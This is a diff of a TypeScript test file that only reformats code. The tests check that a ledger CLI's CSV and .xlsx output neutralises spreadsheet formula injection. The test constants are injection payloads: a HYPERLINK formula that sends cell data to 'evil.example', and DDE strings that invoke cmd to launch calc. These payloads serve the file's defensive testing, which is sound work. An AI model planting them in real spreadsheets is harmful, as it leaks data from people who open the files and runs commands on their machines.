@@ -14,7 +14,7 @@ import { SAMPLE_HEADERS, styleHeader, writePerson } from '../fixtures/sample';
 import { run, tempDir } from '../cli/run';
 
 const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
-const INSTITUTION = '+cmd|\' /C calc\'!A0';
+const INSTITUTION = "+cmd|' /C calc'!A0";
 const OCC_NOTE = '@SUM(1+1)*cmd';
 const TRIGGERS = /^[=+\-@\t\r]/;
 
@@ -68,7 +68,8 @@ async function xlsxParts(file: string): Promise<{ formulas: string[]; strings: s
 async function expectTextOnly(file: string, payloads: string[]): Promise<void> {
   const { formulas, strings } = await xlsxParts(file);
   expect(formulas.filter((f) => /HYPERLINK|evil|cmd|calc/i.test(f))).toEqual([]);
-  for (const p of payloads) expect(strings).toContain(p.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/'/g, '&apos;'));
+  for (const p of payloads)
+    expect(strings).toContain(p.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/'/g, '&apos;'));
 }
 
 test('csvSafe prefixes formula starters; plain numbers and other text stay; csvUnsafe undoes it', () => {
@@ -82,7 +83,18 @@ test('csvSafe prefixes formula starters; plain numbers and other text stay; csvU
 
 test('ledger add into a CSV ledger writes no formula and reads the same text back', async () => {
   const ledger = path.join(dir, '台账.csv');
-  const r = await run('ledger', 'add', roster, '--ledger', ledger, '--institution', INSTITUTION, '--include-errors', '--date', '2021-06-01');
+  const r = await run(
+    'ledger',
+    'add',
+    roster,
+    '--ledger',
+    ledger,
+    '--institution',
+    INSTITUTION,
+    '--include-errors',
+    '--date',
+    '2021-06-01',
+  );
   expect(r.stderr).toBe('');
   expect(r.code).toBe(0);
   const cells = await csvCells(ledger);
@@ -115,7 +127,9 @@ test('ledger add into an .xlsx ledger writes string cells', async () => {
 
 test('ledger export to .csv and .xlsx writes no formula', async () => {
   const db = path.join(dir, 'ledger.sqlite');
-  expect((await run('ledger', 'add', roster, '--ledger', db, '--institution', INSTITUTION, '--include-errors')).code).toBe(0);
+  expect(
+    (await run('ledger', 'add', roster, '--ledger', db, '--institution', INSTITUTION, '--include-errors')).code,
+  ).toBe(0);
   const csv = path.join(dir, 'export.csv');
   const xlsx = path.join(dir, 'export.xlsx');
   expect((await run('ledger', 'export', csv, '--ledger', db)).code).toBe(0);
